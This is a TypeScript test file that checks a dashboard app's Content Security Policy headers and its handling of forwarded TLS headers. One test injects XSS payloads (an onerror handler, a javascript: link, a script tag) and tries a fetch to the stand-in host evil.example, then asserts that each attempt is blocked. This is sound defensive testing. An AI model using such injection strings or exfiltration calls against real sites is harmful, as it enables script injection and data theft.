import { startDashboard } from '@seriema/api/start/dashboard'
import { freePort } from '@seriema/api/start/ports'
import { pino } from 'pino'
import type { Page } from 'playwright'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { create, ingest, request, startProduct, type TestDashboard } from './dashboard.ts'

let product: TestDashboard
const start = Date.UTC(2026, 0, 1)

beforeAll(async () => {
  product = await startProduct()
  await create(product.api, {
    key: 'kiln',
    title: 'Kiln',
    interval: 60_000,
    attributes: [{ name: 'region', value: 'SP' }],
  })
  const times = Array.from({ length: 300 }, (_, i) => start + i * 60_000)
  await ingest(
    product.api,
    'kiln',
    times,
    times.map((_, i) => (i === 250 ? 90 : Math.sin(i / 5))),
  )
  const group = { name: 'kilns', conditions: [{ attribute: 'region', values: ['SP'] }] }
  await request(product.api, 'mutation($input: CreateGroupInput!) { createGroup(input: $input) { __typename } }', {
    input: group,
  })
})
afterAll(() => product?.close())

const pages = [
  '/',
  '/series',
  '/series/kiln',
  '/series/kiln/anomalies',
  '/series/kiln/explore',
  '/series/kiln/forecast',
  '/series/kiln/models',
  '/series/none',
  '/groups',
  '/groups/kilns',
  '/models',
  '/data',
  '/system',
  '/plot?series_id=kiln',
  '/nowhere',
]

/** Whatever a page tried that its policy forbids, from its first script on. */
async function watch(page: Page): Promise<string[]> {
  const broken: string[] = []
  await page.exposeFunction('broke', (what: string) => void broken.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      (globalThis as unknown as { broke(what: string): void }).broke(`${violatedDirective} ${blockedURI} ${sample}`),
    )
  })
  page.on('console', message => {
    if (/content security policy/i.test(message.text())) broken.push(message.text())
  })
  return broken
}

const directives = (policy: string) =>
  new Map(policy.split('; ').map(each => [each.split(' ')[0]!, each.split(' ').slice(1)] as const))

test('every page works under a policy that lets no script in but its own, and reaches the API alone', async () => {
  const page = await product.open('/')
  onTestFinished(() => page.context().close())
  const broken = await watch(page)
  const nonces = new Set<string>()
  for (const path of pages) {
    const response = (await page.goto(product.url + path))!
    const policy = directives(response.headers()['content-security-policy']!)
    const scripts = policy.get('script-src')!
    expect(scripts.join(' '), path).not.toMatch(/unsafe|\*|https?:/)
    nonces.add(scripts.find(source => source.startsWith("'nonce-"))!)
    const { origin } = new URL(product.api.url)
    expect(policy.get('connect-src'), path).toEqual(["'self'", origin, origin.replace('http', 'ws')])
    for (const [name, only] of [
      ['default-src', "'self'"],
      ['object-src', "'none'"],
      ['base-uri', "'none'"],
      ['frame-ancestors', "'none'"],
      ['form-action', "'self'"],
    ] as const)
      expect(policy.get(name), path).toEqual([only])
    await page.waitForFunction(() => Object.keys(document).some(key => key.startsWith('__reactContainer')))
    await page.locator('main').first().waitFor()
    await page.waitForLoadState('networkidle')
    expect(broken, path).toEqual([])
  }
  expect(nonces.size).toBe(pages.length)
})

test('a script that was smuggled into a page does not run, and what it would send does not leave', async () => {
  const page = await product.open('/series')
  onTestFinished(() => page.context().close())
  const broken = await watch(page)
  await page.goto(`${product.url}/series`)
  await page.locator('main').first().waitFor()
  await page.evaluate(() => {
    const holder = document.createElement('div')
    holder.innerHTML =
      '<img src="data:," onerror="window.smuggled = true"><a href="javascript:window.smuggled = true">a</a>'
    document.body.append(holder)
    holder.querySelector('a')!.click()
    const script = document.createElement('script')
    script.textContent = 'window.smuggled = true'
    document.body.innerHTML += script.outerHTML
  })
  await expect.poll(() => broken.join('\n')).toMatch(/script-src/)
  const sent = await page.evaluate(() =>
    fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => true,
      () => false,
    ),
  )
  expect(sent).toBe(false)
  await expect.poll(() => broken.join('\n')).toMatch(/connect-src/)
  expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
})

test('a page believes what a header says of TLS from a trusted proxy, and from nobody else', async () => {
  const reached = async (trustedProxies: readonly string[]): Promise<string | undefined> => {
    const port = await freePort()
    const { stop } = await startDashboard(
      { host: '127.0.0.1', port, apiUrl: null, trustedProxies },
      pino({ level: 'silent' }),
    )
    onTestFinished(stop)
    const headers = { 'x-forwarded-proto': 'https', 'x-forwarded-host': 'elsewhere.example' }
    const { headers: told } = await fetch(`http://127.0.0.1:${port}/nowhere`, { headers })
    return /connect-src [^;]*/.exec(told.get('content-security-policy') ?? '')?.[0]
  }
  expect(await reached([])).toBe("connect-src 'self' http://127.0.0.1:4000 ws://127.0.0.1:4000")
  expect(await reached(['127.0.0.0/8'])).toBe("connect-src 'self' https://127.0.0.1:4000 wss://127.0.0.1:4000")
})
